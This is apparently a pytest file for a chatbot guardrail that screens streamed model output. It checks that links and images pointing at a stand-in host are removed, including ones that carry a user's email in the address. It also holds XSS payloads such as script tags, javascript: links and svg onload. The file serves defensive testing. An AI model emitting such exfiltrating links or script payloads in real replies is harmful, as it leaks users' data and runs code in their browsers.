"""A model that writes whatever an attacker wants: nothing of it leads, loads or is read.

Each order is echoed in full, in pieces of every size. The control shows the
same text without the screen, where the attack works.
"""

import itertools
import re

import pytest

from chatbot.guardrails.policy import Guard
from chatbot.guardrails.screen import Screen
from chatbot.guardrails.word_lists import Entry, Words
from chatbot.models import GuardPolicy
from conversations.markdown import as_html
from tests.guardrails.test_containment import OWN, leads_to

SECRET = "ada%40example.org"
TARGETS = [
    f"https://evil.example/?q={SECRET}",
    f"http://evil.example:8080/{SECRET}",
    f"HTTPS://EVIL.EXAMPLE/{SECRET}",
    f"https://user:pass@evil.example/{SECRET}",
    f"https://www.acme.example@evil.example/{SECRET}",
    f"https://www.acme.example.evil.example/{SECRET}",
    f"https://{SECRET.replace('%40', '.')}.evil.example/",
    f"https://127.0.0.1/{SECRET}",
    f"https://[::1]/{SECRET}",
    f"https://xn--acme-9na.example/{SECRET}",
]
SHAPES = [
    "{}",
    "<{}>",
    "({})",
    "[Log in]({})",
    "[Log in]({} 'title')",
    "![]({})",
    "![logo]({})",
    "[![logo]({})](/help)",
    "<img src={}>",
    "<a href='{}'>x</a>",
    "| [a]({}) | b |\n|---|---|\n| c | d |",
    "- [a]({})\n- b",
    "# [a]({})",
    "**[a]({})**",
    "> ![a]({})",
    "[a][r]\n\n[r]: {}",
]
AROUND = ["Sure! {} Bye.", "{}", "当然！{}。再见"]
ATTACKS = [
    around.format(shape.format(target))
    for around, shape, target in itertools.product(AROUND, SHAPES, TARGETS)
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
]
GUARD = Guard(Words(()), Words([Entry("idiot", "mask")]), frozenset(OWN), GuardPolicy())


def shown(text, size):
    screen = Screen(GUARD, {})
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    return "".join([*map(screen.take, pieces), screen.end()])


def test_there_are_attacks_enough_and_they_would_work():
    assert len(ATTACKS) >= 300
    leading = [text for text in ATTACKS if leads_to(text) - OWN or "evil" in as_html(text).lower()]
    assert len(leading) > 0.9 * len(ATTACKS)


@pytest.mark.parametrize("size", [1, 2, 3, 4, 7, 1000])
def test_no_attack_leaves_a_link_to_elsewhere_or_a_picture(size):
    for text in ATTACKS:
        out = shown(text, size)
        assert leads_to(out) <= OWN, (text, out)
        assert "![" not in out
        html = as_html(out)
        assert "<img" not in html
        assert "evil" not in "".join(re.findall('href="([^"]*)"', html)).lower(), html


@pytest.mark.parametrize("text", SCRIPTS)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_nothing_runs(text, size):
    html = as_html(shown(text, size)).lower()
    assert "href" not in html
    assert not any(tag in html for tag in ("<script", "<svg", "<iframe", "<img"))


def test_a_listed_word_cannot_hide_in_an_address():
    for text in ("https://evil.example/idiot", "[idiot](https://evil.example)", "i](d](i](o](t"):
        assert "idiot" not in shown(text, 1)
